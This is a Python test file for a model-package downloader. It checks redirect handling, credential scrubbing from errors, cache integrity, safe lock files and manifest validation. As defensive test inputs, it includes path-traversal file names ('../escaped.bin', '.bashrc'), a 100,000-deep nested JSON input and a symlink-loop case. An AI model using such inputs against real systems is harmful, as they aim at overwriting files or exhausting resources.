def test_a_redirect_to_another_host_is_warned_about(server, tmp_path, caplog, warned):
    data = payload(2000)
    server.put("real.bin", data)
    port = server.url.rsplit(":", 1)[1]
    server.redirect["/moved.bin"] = f"http://localhost:{port}/real.bin"

    with caplog.at_level("WARNING", logger="taskflow"):
        download_file(f"{server.url}/moved.bin", tmp_path / "dl" / "x.bin", sha256=sha256(data), size=len(data))

    assert (tmp_path / "dl" / "x.bin").read_bytes() == data   # the hash still decides
    said = [r.getMessage() for r in caplog.records if "redirected" in r.getMessage()]
    assert len(said) == 1 and f"localhost:{port}" in said[0] and "127.0.0.1" in said[0]


SECRET = "s3cr3t-Pa55"


@pytest.mark.network
def test_credentials_in_the_endpoint_never_appear_in_errors_or_logs(pinned, server, home, monkeypatch, caplog, warned):
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url.replace("http://", f"http://alice:{SECRET}@"))
    monkeypatch.setattr(packages, "download_file", functools.partial(downloads.download_file, backoff=0))
    (server.root / served("vocab.txt")).unlink()
    messages = []
    with caplog.at_level("WARNING", logger="taskflow"):
        with pytest.raises(DownloadError) as info:     # an HTTP error
            resolve(TASK, MODEL, progress=False)
        messages += [str(info.value), info.value.url]
        with pytest.raises(OfflineModeError) as info:  # the offline hint names the endpoint
            resolve(TASK, MODEL, offline=True)
        messages.append(str(info.value))
        closed = socket.socket()
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
        closed.close()                                 # a port nobody listens on: a connection error
        monkeypatch.setenv("PPNLP_ENDPOINT", f"http://alice:{SECRET}@127.0.0.1:{port}")
        with pytest.raises(DownloadError) as info:
            resolve(TASK, MODEL, progress=False)
        messages.append(str(info.value))
    messages += [r.getMessage() for r in caplog.records]

    assert len(messages) >= 5 and "127.0.0.1" in messages[0]
    for message in messages:
        assert SECRET not in message and "alice:" not in message, message


@pytest.mark.network
def test_download_without_a_lock_locks_under_the_cache_home(server, tmp_path, home, monkeypatch):
    shared_tmp = tmp_path / "shared_tmp"
    shared_tmp.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(shared_tmp))
    url = server.put("a.bin", b"abc")

    download_file(url, tmp_path / "dl" / "a.bin", sha256=sha256(b"abc"))

    assert os.listdir(shared_tmp) == []
    assert [p.suffix for p in (home / "taskflow" / ".locks").iterdir()] == [".lock"]


def test_filelock_is_required_at_a_version_that_refuses_symlinks():
    # filelock < 3.20.3 opened (and truncated) a symlink planted at the lock path (CVE-2025-68146,
    # CVE-2026-22701); 3.20.3 needs Python 3.10, so Python 3.9 keeps the older floor.
    import configparser

    from packaging.requirements import Requirement

    config = configparser.ConfigParser(inline_comment_prefixes=("#",))
    config.read(Path(__file__).resolve().parents[1] / "setup.cfg", encoding="utf-8")
    requirements = [Requirement(line) for line in config["options"]["install_requires"].splitlines() if line.strip()]
    pins = {str(r.marker): str(r.specifier) for r in requirements if r.name == "filelock"}
    assert pins == {'python_version >= "3.10"': ">=3.20.3", 'python_version < "3.10"': ">=3.8"}


# ------------------------------------------------ the cache markers

@pytest.mark.network
def test_a_same_size_edit_of_a_cached_file_is_caught_though_the_marker_stays(pinned, server, home, monkeypatch):
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
    package = resolve(TASK, MODEL, progress=False)
    vocab = package.path("vocab.txt")
    edited = bytearray(vocab.read_bytes())
    edited[0] ^= 1
    vocab.write_bytes(bytes(edited))                  # same size; .verified is left in place

    again = resolve(TASK, MODEL, progress=False)

    assert again.source == "download" and vocab.read_bytes() == FILES["vocab.txt"]
    assert server.count(served("vocab.txt")) == 2 and server.count(served("weights.bin")) == 1


@pytest.mark.network
def test_an_untouched_cache_is_not_hashed_again(pinned, server, home, monkeypatch):
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
    package = resolve(TASK, MODEL, progress=False)
    past = package.directory.stat().st_mtime_ns - 10**9
    for name in FILES:   # older than the marker, as files are once a clock tick has passed
        os.utime(package.path(name), ns=(past, past))
    resolve(TASK, MODEL, progress=False)              # re-hashed once: the marker did not know those times
    hashed = []
    monkeypatch.setattr(packages, "sha256_file", lambda path, *a: hashed.append(path) or "0" * 64)

    assert resolve(TASK, MODEL, progress=False).source == "cache"
    assert hashed == []


def test_resolving_a_bundled_package_writes_nothing_into_the_cache(tmp_path, home, monkeypatch):
    bundled = tmp_path / "bundled"
    make_package(bundled / TASK / MODEL)
    monkeypatch.setattr(packages, "_bundled_root", lambda: bundled)
    monkeypatch.setattr(packages, "_VERIFIED_BUNDLES", set())

    assert resolve(TASK, MODEL).source == "bundled"
    assert resolve(TASK, MODEL).source == "bundled"

    assert not home.exists()


def test_shipped_manifests_and_recipes_name_the_framework_versions_under_one_key():
    root = Path(__file__).resolve().parents[1]
    shipped = [json.loads(p.read_text(encoding="utf-8")) for p in (root / "resources").glob("*/*/manifest.json")]
    assert len(shipped) >= 5
    assert all("frameworks" not in manifest for manifest in shipped)
    assert sum("framework" in manifest for manifest in shipped) >= 4   # termtree has no network to record
    recipes = [p for p in [*root.glob("tasks/*/train.py"), *root.glob("recipes/*/train.py")]
               if "framework_versions(" in p.read_text(encoding="utf-8")]
    assert len(recipes) >= 5
    for recipe in recipes:
        assert '"frameworks"' not in recipe.read_text(encoding="utf-8"), recipe


@pytest.mark.parametrize("name", ["../escaped.bin", ".bashrc", "static"])
def test_write_package_checks_file_names_before_writing(tmp_path, name):
    (tmp_path / "w.bin").write_bytes(b"w")
    with pytest.raises(ManifestError, match="file name"):
        write_package(tmp_path / "out" / "pkg", {"task": TASK, "name": MODEL, "version": VERSION},
                      {"w.bin": tmp_path / "w.bin", name: tmp_path / "w.bin"})
    assert files_under(tmp_path / "out") == []


# ------------------------------------------------ downloads: every failure is a DownloadError

@pytest.mark.network
@pytest.mark.parametrize("fault", ["redirect-loop", "false-gzip"])
def test_any_failure_of_requests_is_a_download_error_without_credentials(server, tmp_path, fault):
    """A redirect loop and a gzip body that is not gzip gave requests' own TooManyRedirects and
    ContentDecodingError."""
    data = payload(3000)
    server.put("w.bin", data)
    if fault == "redirect-loop":
        server.redirect["/w.bin"] = f"{server.url}/w.bin"
    else:
        server.false_gzip.add("/w.bin")
    url = f"{server.url}/w.bin".replace("http://", f"http://alice:{SECRET}@")
    with pytest.raises(DownloadError, match=r"GET http://127\.0\.0\.1:\d+/w\.bin failed: ") as info:
        download_file(url, tmp_path / "dl" / "w.bin", sha256=sha256(data), size=len(data), backoff=0, progress=False)
    assert SECRET not in str(info.value) and "alice" not in str(info.value) and SECRET not in info.value.url
    assert info.value.__cause__ is None and info.value.__suppress_context__
    assert files_under(tmp_path / "dl") == []


BAD_ENDPOINTS = {
    "no-scheme": (f"alice:{SECRET}@127.0.0.1:8000/models", "the scheme must be http:// or https://"),
    "ftp": (f"ftp://alice:{SECRET}@127.0.0.1/models", "the scheme must be http:// or https://, not ftp://"),
    "port": (f"http://alice:{SECRET}@127.0.0.1:99999/models", "its port is not a number from 1 to 65535"),
    "ipv6": (f"http://alice:{SECRET}@[::1/models", "it cannot be parsed"),
    "no-host": (f"https://alice:{SECRET}@/models", "it names no host"),
    "scheme-alone": ("http://", "it names no host"),
}


@pytest.mark.parametrize("case", list(BAD_ENDPOINTS))
def test_a_mistyped_endpoint_is_one_clear_error_without_its_password(
        pinned, home, monkeypatch, capsys, tiny_sentiment, tmp_path, case):
    value, problem = BAD_ENDPOINTS[case]
    monkeypatch.setenv("PPNLP_ENDPOINT", value)
    with pytest.raises(DownloadError, match=re.escape(problem)) as info:
        resolve(TASK, MODEL, progress=False)
    assert "PPNLP_ENDPOINT" in str(info.value)
    assert SECRET not in str(info.value) and "alice" not in str(info.value) and SECRET not in (info.value.url or "")
    assert files_under(home) == [] or all(".locks" in f for f in files_under(home))

    # The command line: a package taskflow pins whose files are neither bundled nor cached.
    from taskflow.cli import main

    bundled = tmp_path / "bundled-tiny"
    (bundled / "sentiment_analysis" / "tiny").mkdir(parents=True)
    shutil.copy(tiny_sentiment / "manifest.json", bundled / "sentiment_analysis" / "tiny" / "manifest.json")
    monkeypatch.setattr(packages, "_bundled_root", lambda: bundled)
    assert main(["download", "sentiment_analysis", "--model", "tiny", "--home", str(home)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("taskflow: error: PPNLP_ENDPOINT ") and err.count("\n") == 1 and problem in err
    assert SECRET not in err and "alice" not in err


# ------------------------------------------------ a malformed package of one's own: typed errors at load

def _edited_copy(tiny_sentiment, tmp_path, edit=None, *, text=None, vocab_lines=0):
    """A copy of a package with its manifest edited (its files re-pinned, as a user's tools would)."""
    copy = tmp_path / "mine"
    shutil.copytree(tiny_sentiment, copy)
    if vocab_lines:
        with open(copy / "vocab.txt", "a", encoding="utf-8") as handle:
            handle.write("".join(f"词{i}\n" for i in range(vocab_lines)))
    data = json.loads((copy / "manifest.json").read_text(encoding="utf-8"))
    for name in data["files"]:
        data["files"][name] = {"sha256": sha256((copy / name).read_bytes()), "size": (copy / name).stat().st_size}
    if edit:
        edit(data)
    (copy / "manifest.json").write_text(text if text is not None else json.dumps(data), encoding="utf-8")
    return copy


def _set(*path_and_value):
    *keys, last, value = path_and_value

    def edit(data):
        for key in keys:
            data = data[key]
        data[last] = value
    return edit


MALFORMED = {
    "nested-100000-deep": (dict(text="[" * 100_000 + "]" * 100_000), "nested too deeply"),
    "type-a-number": (dict(edit=_set("architecture", "type", 7)), "architecture 'type' is 7; expected the name"),
    "max-length-negative": (dict(edit=_set("max_length", -5)), "'max_length' is -5; expected a whole number from 1"),
    "size-10^30": (dict(edit=_set("architecture", "embed_dim", 10 ** 30)), "architecture 'embed_dim' is 1000000"),
    "size-10^18": (dict(edit=_set("architecture", "conv_channels", 10 ** 18)), "expected a size from 0 to 1,000,000,000"),
    "fewer-labels": (dict(edit=_set("labels", ["negative"])), "'labels' lists 1 label(s) but the network has 2 outputs"),
    "labels-not-str": (dict(edit=_set("labels", ["negative", None])), "expected a list of str (or int)"),
    "list-of-objects": (dict(edit=_set("architecture", "dilations", [1, {"a": 2}])), "or lists of them"),
    "lists-too-deep": (dict(edit=_set("architecture", "dilations", [[[[1]]]])), "nested 3 deep"),
    "list-size-10^18": (dict(edit=_set("architecture", "dilations", [1, 10 ** 18])), "expected a size from 0 to"),
    "long-vocabulary": (dict(vocab_lines=500), "entries but the network embeds 133 (architecture 'vocab_size')"),
    "requires-cycle": (dict(edit=_set("requires", {"itself": "./loop"})), "'requires' form a cycle"),
}


@pytest.mark.parametrize("case", list(MALFORMED))
def test_a_malformed_own_package_is_a_manifest_error_at_load(tiny_sentiment, tmp_path, case):
    """Each of these gave RecursionError, AttributeError, a plain ValueError, or loaded and then failed on
    every text (IndexError, Paddle's InvalidArgumentError)."""
    from taskflow import Taskflow

    options, message = MALFORMED[case]
    package = _edited_copy(tiny_sentiment, tmp_path, **options)
    if case == "requires-cycle":
        (package / "loop").symlink_to(".")
    with pytest.raises(ManifestError, match=re.escape(message)):
        Taskflow("sentiment_analysis", task_path=package)("这家酒店很干净")


@pytest.mark.network
def test_an_edit_that_puts_the_old_mtime_back_is_caught(pinned, server, home, monkeypatch):
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
    package = resolve(TASK, MODEL, progress=False)
    past = package.directory.stat().st_mtime_ns - 10**9
    for name in FILES:   # older than the marker, so the marker alone vouches for them
        os.utime(package.path(name), ns=(past, past))
    resolve(TASK, MODEL, progress=False)
    vocab = package.path("vocab.txt")
    edited = bytearray(vocab.read_bytes())
    edited[0] ^= 1
    vocab.write_bytes(bytes(edited))
    os.utime(vocab, ns=(past, past))                  # `touch -r`: size and mtime as the marker has them

    again = resolve(TASK, MODEL, progress=False)      # the ctime moved: hashed, found damaged, fetched
    assert again.source == "download" and vocab.read_bytes() == FILES["vocab.txt"]


# ------------------------------------------------ a cache home that cannot be written

def test_a_cache_that_cannot_be_written_is_one_typed_error_naming_the_fix(tmp_path, monkeypatch, capsys):
    import errno

    from taskflow.cli import main
    from taskflow.errors import CacheWriteError

    home = tmp_path / "ro-home"
    real_mkdir = Path.mkdir

    def read_only(self, *args, **kwargs):   # root passes permission checks: the file system refuses instead
        if home in Path(self).absolute().parents or Path(self).absolute() == home:
            raise OSError(errno.EROFS, "Read-only file system", str(self))
        return real_mkdir(self, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", read_only)
    assert main(["download", "text_similarity", "--home", str(home)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"taskflow: error: cannot write the model cache under {home}: Read-only file system")
    assert "set PPNLP_HOME (home=, --home) to a writable folder" in err and err.count("\n") == 1
    package = packages.resolve("text_similarity", "siamese_rnn_ensemble", home=home)   # the bundled copy, read
    with pytest.raises(CacheWriteError) as info:
        packages.copy_to_cache(package, home)
    assert isinstance(info.value, OSError)
